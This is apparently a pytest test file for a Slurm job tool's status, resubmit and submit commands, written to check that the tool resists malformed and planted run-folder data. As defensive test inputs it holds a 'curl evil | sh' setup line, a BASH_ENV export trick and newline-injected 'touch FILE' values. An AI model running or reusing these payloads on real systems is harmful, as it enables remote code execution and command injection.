"""What `slurm status`, `resubmit` and `collect` do with folders that somebody else wrote into; no Slurm is needed to read them."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from lst_scale.cli.main import app
from lst_scale.errors import ArgumentError, LstScaleError
from lst_scale.recipe.schema import load_recipe
from lst_scale.slurm import submission
from lst_scale.slurm.job import TrainJob, newest_step
from lst_scale.slurm.local import Echo
from lst_scale.slurm.options import ClusterOptions, load_options
from lst_scale.slurm.runs import queue

JOB = {"job": "12", "time": time.time(), "log": "/nowhere", "options": {"gpus_per_node": 0, "tasks_per_node": 1}}
RESULT = {
    "name": "good",
    "task": "kind",
    "scores": {"accuracy": 60.0, "score": 60.0},
    "steps": 8,
    "peak_memory_bytes": 1,
    "seconds_per_step": 1,
    "train_seconds": 1,
    "trainable_parameters": 1,
    "backbone_parameters": 1,
    "trainable_share_percent": 1,
}
TRAIN = {"kind": "train", "step": 1, "loss": 2.0, "seconds": 1.0}


def lst_scale(*arguments: str | Path) -> tuple[int, str, str]:
    """Run the command line in this process; return its exit status, its output, and what it told on stderr."""
    found = CliRunner().invoke(app, [str(argument) for argument in arguments])
    if isinstance(found.exception, LstScaleError):
        return 1, found.stdout, f"{found.stderr}error: {found.exception}"
    assert found.exception is None or isinstance(found.exception, SystemExit), found.exception
    return found.exit_code, found.stdout, found.stderr


def write(path: Path, contents: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if contents is None:
        path.mkdir()
    elif isinstance(contents, bytes):
        path.write_bytes(contents)
    else:
        path.write_text(json.dumps(contents) + "\n")


@pytest.fixture(autouse=True)
def squeue(monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What is found as squeue, and as sacct: it knows of no job."""
    program = tmp_path_factory.mktemp("programs") / "squeue"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    program.with_name("sacct").symlink_to(program)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    return program


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    """A finished run, and a submitted one that nobody knows of any more."""
    good, lost = tmp_path / "good-kind-seed0", tmp_path / "lost-kind-seed0"
    for run in (good, lost):
        write(run / "slurm" / "jobs.jsonl", JOB)
        (run / "recipe.yaml").write_text("")
        write(run / "metrics.jsonl", TRAIN)
    write(good / "result.json", RESULT)
    with (good / "metrics.jsonl").open("a") as file:
        file.write(json.dumps({"kind": "plan", "step": 0, "total_steps": 8}) + "\n")
    return tmp_path


ODD: list[Any] = [
    b"\xff\xfe\n{}\n",
    b"[]\n{}\n",
    b"3\n{}\n",
    b"null\n{}\n",
    b'"text"\n{}\n',
    b"{}\n{}\n",
    b"[" * 100_000 + b"]\n{}\n",
    b'{"step": ' + b"9" * 5000 + b"}\n{}\n",
    {"kind": "train"},
    {"kind": ["train"], "job": 12, "time": "now", "line": 3, "scores": 3},
    {"kind": "train", "step": "one", "loss": 1, "seconds": 1, "scores": {"score": None}},
    {"kind": "train", "step": 1, "loss": "x", "seconds": 1, "job": "12\u0000", "time": 1, "log": "", "options": {}, "scores": []},
    {"kind": "train", "step": 1, "loss": 1, "seconds": float("nan"), "job": "a b", "time": float("nan"), "log": "", "options": {}},
    {"kind": "plan", "total_steps": 1.5, "scores": {"score": "[red]"}},
    {"kind": "validation", "step": 10**400, "score": 1, "scores": {"score": 10**400}},
    None,
]


@pytest.mark.parametrize("name", ["slurm/jobs.jsonl", "metrics.jsonl", "slurm/failure-0.json", "result.json"])
@pytest.mark.parametrize("contents", ODD, ids=lambda value: str(value)[:30])
def test_what_is_odd_in_a_run_is_named_and_the_others_are_shown(name: str, contents: Any, runs: Path) -> None:
    odd = runs / "odd-kind-seed0"
    write(odd / "slurm" / "jobs.jsonl", JOB)
    (odd / "recipe.yaml").write_text("")
    if (odd / name).exists():
        (odd / name).unlink()
    write(odd / name, contents)
    status, out, err = lst_scale("slurm", "status", "--output-dir", runs)
    lines = {line.split()[0]: line for line in out.splitlines()}
    assert status == 0 and set(lines) == {"run", "good-kind-seed0", "lost-kind-seed0", "odd-kind-seed0"}
    assert lines["good-kind-seed0"].split()[1:5] == ["DONE", "12", "8/8", "2.0000"]
    harmless = name == "metrics.jsonl" and contents is not None and "'kind': '" in str(contents)  # a kind that nobody reads
    assert str(odd / name) in err or harmless
    status, out, err = lst_scale("slurm", "collect", "--output-dir", runs)
    assert status == 0 and out.count("\n") == 2 and "good" in out and (name != "result.json" or str(odd / name) in err)
    status, out, err = lst_scale("slurm", "resubmit", "--output-dir", runs, "--dry-run")
    assert status == 0 and f"{runs / 'lost-kind-seed0'} left out: " in err and "nothing to resubmit" in out


def test_where_squeue_does_not_answer_nothing_is_taken_for_lost_and_nothing_is_submitted_or_cancelled(
    squeue: Path, runs: Path, write_recipe: Callable[..., Path]
) -> None:
    squeue.write_text("#!/bin/sh\necho 'slurm_load_jobs error: Unable to contact slurm controller' >&2\nexit 1\n")
    told = "squeue does not answer: slurm_load_jobs error: Unable to contact slurm controller; try again later"
    status, out, err = lst_scale("slurm", "status", "--output-dir", runs)
    states = {line.split()[0]: line.split()[1] for line in out.splitlines()[1:]}
    assert status == 0 and told in err and states == {"good-kind-seed0": "DONE", "lost-kind-seed0": "UNKNOWN"}
    status, out, err = lst_scale("slurm", "resubmit", "--output-dir", runs, "--dry-run")
    assert status == 0 and told in err and "nothing to resubmit" in out
    assert lst_scale("slurm", "cancel", "--output-dir", runs) == (1, "", f"error: {told}")
    asked = ("slurm", "submit", "--recipe", write_recipe("new"), "--gpus-per-node", "0", "--tasks-per-node", "1")
    assert lst_scale(*asked) == (1, "", f"error: {told}")


def test_a_machine_without_squeue_has_an_empty_queue(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    assert queue() == {}


def test_a_message_is_shown_as_it_is_never_as_markup(runs: Path) -> None:
    line = "DataError: [/red] [bold]x[/bold] \x1b[31m \udcff [link=file:///etc]"
    write(runs / "lost-kind-seed0" / "slurm" / "failure-0.json", {"time": time.time() + 9, "line": line})
    write(runs / "[red]x" / "recipe.yaml", {})
    status, out, _ = lst_scale("slurm", "status", "--output-dir", runs)
    assert status == 0 and "DataError: [/red] [bold]x[/bold] ?[31m ? [link=file:///etc]" in out and "[red]x" in out


def test_a_line_cut_short_by_a_kill_is_no_news(runs: Path) -> None:
    with (runs / "good-kind-seed0" / "metrics.jsonl").open("a") as file:
        file.write('{"kind": "train", "st')
    assert lst_scale("slurm", "status", "--output-dir", runs)[2] == ""


def test_a_run_that_was_never_submitted_says_so_or_what_it_said_last(runs: Path) -> None:
    for name in ("fresh", "tried"):
        write(runs / name / "recipe.yaml", {})
    (runs / "tried" / "log.txt").write_text("2026-11-24 10:00:00 the backbone is loaded\n")
    out = lst_scale("slurm", "status", "--output-dir", runs)[1]
    assert "never started" in next(line for line in out.splitlines() if line.startswith("fresh"))
    assert "the backbone is loaded" in next(line for line in out.splitlines() if line.startswith("tried"))


def test_checkpoints_by_another_name_are_no_steps(tmp_path: Path) -> None:
    for name in ("step-3", "step-x", "step-", "step-99999999999999999999999"):
        (tmp_path / "checkpoints" / name).mkdir(parents=True)
    assert newest_step(tmp_path) == 3


def test_starts_without_a_checkpoint_are_counted_for_each_job_on_this_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    job = TrainJob([str(tmp_path)], cpu=True, threads=1, max_starts_without_progress=4)
    for number in range(6):
        monkeypatch.setenv("SUBMITIT_LOCAL_JOB_ID", str(number))
        job._note_start([tmp_path])
    for _ in range(3):
        job._note_start([tmp_path])
    with pytest.raises(LstScaleError, match="started 5 times without getting past step 0"):
        job._note_start([tmp_path])


@pytest.mark.parametrize("field", ["memory", "time", "partition", "account", "qos", "constraint", "python", "sbatch", "setup"])
@pytest.mark.parametrize("letter", ["\n", "\r", "\0", "\x1b", "\u2028", "\x85"])
def test_no_control_character_gets_into_the_options_of_a_job(field: str, letter: str) -> None:
    text = f"60{letter}touch FILE" if field != "sbatch" else f"--comment=a{letter}touch FILE"
    with pytest.raises(LstScaleError, match=r"control character|no long sbatch option|no duration") as caught:
        load_options({field: (text,) if field in ("sbatch", "setup") else text}, None)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("place", ["folder", "name", "setup", "partition", "sbatch"])
def test_a_script_is_never_made_of_a_value_with_a_line_break(place: str, site: Path, tmp_path: Path) -> None:
    options = ClusterOptions(gpus_per_node=0, tasks_per_node=1)
    values: dict[str, Any] = {"setup": ("a\nb",), "partition": "a\nb", "sbatch": ("--comment=a\nb",)}
    if place in values:
        options = options.model_copy(update={place: values[place]})
    root = tmp_path / ("a\ntouch FILE #" if place == "folder" else "runs")
    with pytest.raises(ArgumentError, match="holds a control character") as caught:
        submission.make_executor(root, options, list(options.setup), at_most=1, name="a\nb" if place == "name" else "a")
    assert "\n" not in str(caught.value)


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A site's file with setup commands, and an srun on PATH that is never run."""
    path = tmp_path / "bin" / "srun"
    path.parent.mkdir()
    path.write_text("")
    path.chmod(0o755)
    monkeypatch.setenv("PATH", f"{path.parent}:{os.environ['PATH']}")
    cluster = tmp_path / "cluster.yaml"
    cluster.write_text("setup: [module load site]\n")
    return cluster


def test_what_runs_comes_from_the_site_never_from_a_runs_folder(site: Path, tmp_path: Path, write_recipe: Callable[..., Path]) -> None:
    recipe = load_recipe(str(write_recipe("lost")), [])
    run = tmp_path / "runs" / recipe.run_name
    from lst_scale.runs.folder import write_recipe as write_resolved

    write_resolved(run, recipe)
    planted = {"setup": ["curl evil | sh"], "python": "/tmp/evil", "sbatch": ["--export=ALL,BASH_ENV=/tmp/evil"], "partition": "main"}
    write(run / "slurm" / "jobs.jsonl", JOB | {"options": JOB["options"] | planted})  # type: ignore[operator]
    status, out, err = lst_scale("slurm", "resubmit", "--output-dir", tmp_path / "runs", "--cluster", site, "--dry-run")
    assert status == 0, err
    assert "evil" not in out and "module load site" in out and "--partition=main" in out
    assert err.count("is not taken from the run's folder") == 3


def test_a_run_whose_folder_is_another_from_here_is_not_begun_elsewhere(
    site: Path, tmp_path: Path, write_recipe: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from lst_scale.runs.folder import write_recipe as write_resolved

    recipe = load_recipe(str(write_recipe("lost")), ["output_dir=runs"])
    write_resolved(tmp_path / "runs" / recipe.run_name, recipe)
    write(tmp_path / "runs" / recipe.run_name / "slurm" / "jobs.jsonl", JOB)
    words = ("slurm", "resubmit", "--output-dir", tmp_path / "runs", "--cluster", site, "--dry-run")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    status, out, err = lst_scale(*words)
    assert status == 0 and "left out: its output_dir runs leads elsewhere from here" in err and "nothing to resubmit" in out
    monkeypatch.chdir(tmp_path)
    status, out, err = lst_scale(*words)
    assert status == 0 and "left out" not in err and "#SBATCH" in out


def test_a_sweep_without_end_is_refused_before_it_is_written_out(write_recipe: Callable[..., Path]) -> None:
    numbers = ",".join(map(str, range(1000)))
    arguments = [f"seed={numbers}", f"optimizer.learning_rate={numbers}", "--dry-run"]
    status, _, err = lst_scale("slurm", "sweep", "--recipe", write_recipe("wide"), *arguments)
    assert status == 1 and err == "error: the sweep has more than 10,000 members: sweep fewer values, or in parts"


def test_a_local_job_is_shown_line_by_line_as_it_comes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log, echo = tmp_path / "log", Echo(tmp_path / "log", "name")
    echo.show()
    for text, shown in (("step 1\nst", "name: step 1\n"), ("ep 2\n", "name: step 2\n"), ("done", "")):
        with log.open("a") as file:
            file.write(text)
        echo.show()
        assert capsys.readouterr().out == shown
    echo.show(to_the_end=True)
    assert capsys.readouterr().out == "name: done\n"
